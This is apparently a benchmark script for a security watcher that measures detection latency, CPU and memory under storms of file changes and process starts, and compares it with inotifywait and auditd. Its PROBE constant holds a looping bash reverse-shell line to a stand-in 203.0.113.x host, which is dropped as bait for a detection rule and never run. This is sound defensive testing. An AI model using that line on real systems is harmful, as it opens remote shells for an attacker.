"""The watcher at rest, how soon a change is a finding, and under two storms; inotifywait and auditd beside it.

    python -m benchmarks watch [--entries 400000] [--changes 100000] [--starts 20000] [--idle 20] [--dir /dev/shm]

The folder is one of its own, on a tmpfs where the machine has one. Figures are the kernel's for the watcher with all
its processes: CPU seconds, and memory as the sum of their proportional shares (PSS). With `--no-processes` only files
are watched: on a machine that others use, whose programs would be followed too. auditd runs with a configuration and
one rule of its own, both taken away again, and only where no other auditd runs and the kernel allows auditing.
"""

from __future__ import annotations

import argparse
import hashlib
import multiprocessing
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

from benchmarks._measure import note, verdict
from benchmarks._watcher import Peak, Watcher, cpu_of

MAKERS = 8
PROBES = 20
PROBE = "#!/bin/sh\nwhile :; do bash -i >& /dev/tcp/203.0.113.{n}/8443 0>&1; sleep 60; done\n"
AUDIT_KEY = "hinomi-bench"
MEMORY_BAR = 200.0


def main(arguments: Sequence[str] = ()) -> int:
    """Measure and print; 1 where a bar is not met."""
    options = _options(arguments)
    if os.geteuid() != 0:
        print("needs root: fanotify and the process connector")
        return 0
    base = Path(tempfile.mkdtemp(prefix="hinomi-bench-watch-"))
    place = Path(tempfile.mkdtemp(prefix="hinomi-bench-watch-", dir=options.dir))
    try:
        note(f"making {options.entries:,} files ...")
        _fill(place / "there", options.entries)
        met = _ours(place, base, options)
        for peer in (_inotifywait, _auditd):
            _forget_storm(place)
            peer(place, base, options)
    finally:
        shutil.rmtree(place, ignore_errors=True)
        shutil.rmtree(base, ignore_errors=True)
    return 0 if met else 1


def _options(arguments: Sequence[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="benchmarks watch", description=__doc__.split("\n")[0])
    parser.add_argument("--changes", type=int, default=100_000)
    parser.add_argument("--starts", type=int, default=20_000, help="short-lived processes")
    parser.add_argument("--entries", type=int, default=400_000, help="files that are there before")
    parser.add_argument("--idle", type=float, default=20.0, help="seconds at rest")
    parser.add_argument("--no-processes", action="store_true", help="files only: on a machine that others use")
    parser.add_argument("--dir", default="/dev/shm" if os.path.ismount("/dev/shm") else None)
    return parser.parse_args(arguments)


def _ours(place: Path, base: Path, options: argparse.Namespace) -> bool:
    words = ["--no-processes"] if options.no_processes else []
    print(f"{options.entries:,} files there, load {', '.join(f'{load:.1f}' for load in os.getloadavg())}"
          f"{'' if options.no_processes else ', all processes of this machine followed'}")  # fmt: skip
    with Watcher(place, base, *words) as watcher:
        met = _latency(place, watcher)
        met &= _at_rest(watcher, options.idle)
        met &= _storm_of_changes(place, watcher, options.changes)
        if options.no_processes:
            print("storm of processes: not measured (--no-processes)")
        elif options.starts:
            met &= _storm_of_starts(watcher, options.starts)
    return met


def _latency(place: Path, watcher: Watcher) -> bool:
    """Drop a script with a behaviour that a rule knows, and wait until it is told as a finding."""
    took = []
    for n in range(PROBES):
        path = place / f"probe{n}"
        begin = time.monotonic()
        path.write_text(PROBE.format(n=n + 1))
        watcher.until(lambda path=path: watcher.lines("finding", f'{path}"'), 60)
        took.append(time.monotonic() - begin)
        time.sleep(0.5)
    took.sort()
    print(f"change to finding, p50 of {PROBES}: {statistics.median(took):.2f} s")
    return verdict(f"change to finding, p99 of {PROBES}", took[-1], 1.0, " s")


def _at_rest(watcher: Watcher, seconds: float) -> bool:
    time.sleep(5)
    before = watcher.cpu()
    time.sleep(seconds)
    met = verdict("CPU at rest, of a core", 100 * (watcher.cpu() - before) / seconds, 1.0, " %")
    return verdict("memory at rest", watcher.memory(), MEMORY_BAR, " MiB") and met


def _storm_of_changes(place: Path, watcher: Watcher, changes: int) -> bool:
    before = watcher.cpu()
    with Peak(watcher) as peak:
        took = _run(_make_files, [(place / f"storm{n}", changes // MAKERS) for n in range(MAKERS)])
        begin, wanted = time.monotonic(), _tree(place)
        whole = watcher.until(lambda: _missing(watcher, place, wanted) == 0, 900, 2.0)
        later = time.monotonic() - begin
    print(f"storm: {changes:,} files by {MAKERS} processes in {took:.1f} s; all told {later:.1f} s later"
          f"{'' if whole else ' (NOT all)'}; watcher CPU {watcher.cpu() - before:.1f} s;"
          f" gaps {_gaps(watcher)}")  # fmt: skip
    met = verdict("paths whose last state was not told, or other than a fresh look's",
                  _missing(watcher, place, wanted), 0, "")  # fmt: skip
    met &= verdict("memory during the storm, at most", peak.mebibytes, MEMORY_BAR, " MiB")
    time.sleep(10)
    return verdict("memory after the storm", watcher.memory(), MEMORY_BAR, " MiB") and met


def _missing(watcher: Watcher, place: Path, wanted: dict[str, str | None]) -> int:
    told = {path: digest for path, digest in watcher.state().items() if path.startswith(f"{place}/storm")}
    return len(told.items() ^ wanted.items())


def _storm_of_starts(watcher: Watcher, starts: int) -> bool:
    """Start short programs, each with a word of its own; every one is a row, or a gap that was closed covers it."""
    before, word = watcher.cpu(), f"hinomi-bench-{os.getpid()}"
    told_before = len(watcher.lines("process-start"))
    with Peak(watcher) as peak:
        took = _run(_start_programs, [(word, starts // MAKERS) for _ in range(MAKERS)])
        made = starts // MAKERS * MAKERS
        watcher.until(lambda: len(watcher.lines("process-start")) - told_before >= made, 120, 1.0)
    told = len(watcher.lines("process-start")) - told_before
    named = len(watcher.lines("process-start", word))
    print(f"storm: {made:,} short-lived processes in {took:.1f} s: {told:,} starts told, {named:,} with arguments;"
          f" watcher CPU {watcher.cpu() - before:.1f} s; gaps {_gaps(watcher)}")  # fmt: skip
    missing = max(0, made - told - _covered(watcher))
    met = verdict("starts neither told nor covered by a closed gap", missing, 0, "")
    return verdict("memory during the storm of processes, at most", peak.mebibytes, MEMORY_BAR, " MiB") and met


def _covered(watcher: Watcher) -> float:
    """Return how many starts closed gaps stand for: those counted, or all where the kernel had to drop events."""
    closed = [gap for gap in watcher.lines("gap") if not gap["open"]]
    if any(gap["reason"] == "process-events-lost" for gap in closed):
        return float("inf")
    return sum(gap["number"] for gap in closed if gap["reason"] in ("too-many-starts", "unknown-starts"))


def _gaps(watcher: Watcher) -> str:
    found = watcher.lines("gap")
    reasons = sorted({gap["reason"] for gap in found})
    closed = sum(not gap["open"] for gap in found)
    return f"stated {len(found) - closed}, closed {closed} {reasons}" if found else "none"


# --- what is done -----------------------------------------------------------------------------------------------------


def _fill(folder: Path, number: int) -> None:
    for n in range(number):
        if n % 1000 == 0:
            (folder / str(n // 1000)).mkdir(parents=True)
        (folder / str(n // 1000) / str(n)).write_bytes(b"x")


def _make_files(folder: Path, number: int) -> None:
    for n in range(number):
        if n % 500 == 0:
            sub = folder / str(n // 500)
            sub.mkdir(parents=True)
        path = sub / f"f{n}"
        path.write_text(f"{folder} {n}")
        if n % 7 == 0:
            path.rename(sub / f"r{n}")
        elif n % 11 == 0:
            path.unlink()


def _start_programs(word: str, number: int) -> None:
    program = shutil.which("true") or "/bin/true"
    for _ in range(number):
        os.waitpid(os.posix_spawn(program, [program, word], {}), 0)


def _run(maker: Callable[..., None], arguments: Sequence[tuple]) -> float:
    """Run makers at once, each in a process of its own; return the seconds they took."""
    begin = time.monotonic()
    makers = [multiprocessing.get_context("fork").Process(target=maker, args=those) for those in arguments]
    for one in makers:
        one.start()
    for one in makers:
        one.join()
    return time.monotonic() - begin


def _tree(place: Path) -> dict[str, str | None]:
    """Return what stands in the storm's folders now: digests of files, None for folders."""
    found: dict[str, str | None] = {}
    for storm in place.glob("storm*"):
        found[str(storm)] = None
        for top, folders, names in os.walk(storm):
            found |= {os.path.join(top, name): None for name in folders}
            paths = [os.path.join(top, name) for name in names]
            found |= {path: hashlib.sha256(Path(path).read_bytes()).hexdigest() for path in paths}
    return found


def _forget_storm(place: Path) -> None:
    for old in place.glob("storm*"):
        shutil.rmtree(old)


# --- peers ------------------------------------------------------------------------------------------------------------


def _inotifywait(place: Path, base: Path, options: argparse.Namespace) -> None:
    if shutil.which("inotifywait") is None:
        print("inotifywait is not installed (Debian package inotify-tools): left out")
        return
    command = ["inotifywait", "-m", "-r", "-q", str(place)]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(5)
    _beside("inotifywait -m -r", process, place, options)
    print("  (names only: no content, no digest, no who; the first files of new folders go unheard)")


def _auditd(place: Path, base: Path, options: argparse.Namespace) -> None:
    if shutil.which("auditd") is None or shutil.which("auditctl") is None:
        print("auditd is not installed (a Debian package of that name): left out")
        return
    state = subprocess.run(["auditctl", "-s"], capture_output=True, text=True, check=False)
    running = [line for line in state.stdout.splitlines() if line.startswith("pid ") and line != "pid 0"]
    if state.returncode or running:
        print(f"auditd: left out: {running[0] if running else (state.stderr or state.stdout).strip() or 'not allowed'}")
        return
    with _own_auditd(base) as process, _own_rule(place) as allowed:
        if process.poll() is not None or not allowed:
            print("auditd: left out: this kernel or sandbox does not let it run or take rules")
        else:
            _beside("auditd", process, place, options)
            size = sum(path.stat().st_size for path in base.glob("audit.log*"))
            print(f"  (log: {size / (1 << 20):.0f} MiB; no content, no digest)")


@contextmanager
def _own_auditd(base: Path) -> Iterator[subprocess.Popen]:
    (base / "auditd.conf").write_text(
        f"log_file = {base}/audit.log\nlog_group = root\nlog_format = RAW\nflush = INCREMENTAL_ASYNC\nfreq = 50\n"
        "max_log_file = 500\nnum_logs = 2\nmax_log_file_action = ROTATE\nspace_left = 75\nspace_left_action = IGNORE\n"
        "admin_space_left = 50\nadmin_space_left_action = IGNORE\ndisk_full_action = IGNORE\n"
        "disk_error_action = IGNORE\n"
    )
    process = subprocess.Popen(["auditd", "-n", "-c", str(base)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(2)
    try:
        yield process
    finally:
        if process.poll() is None:
            process.terminate()
        process.wait()


@contextmanager
def _own_rule(place: Path) -> Iterator[bool]:
    rule = ["always,exit", "-F", f"dir={place}", "-F", "perm=wa", "-k", AUDIT_KEY]
    added = subprocess.run(["auditctl", "-a", *rule], capture_output=True, check=False)
    try:
        yield added.returncode == 0
    finally:
        if added.returncode == 0:
            subprocess.run(["auditctl", "-d", *rule], capture_output=True, check=False)


def _beside(name: str, process: subprocess.Popen, place: Path, options: argparse.Namespace) -> None:
    """Run the storm of changes beside a peer, print what it cost, and end it."""
    before = cpu_of(process.pid)
    took = _run(_make_files, [(place / f"storm{n}", options.changes // MAKERS) for n in range(MAKERS)])
    time.sleep(3)
    print(f"{name}: the same storm in {took:.1f} s, CPU {cpu_of(process.pid) - before:.1f} s")
    process.terminate()
    process.wait()


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
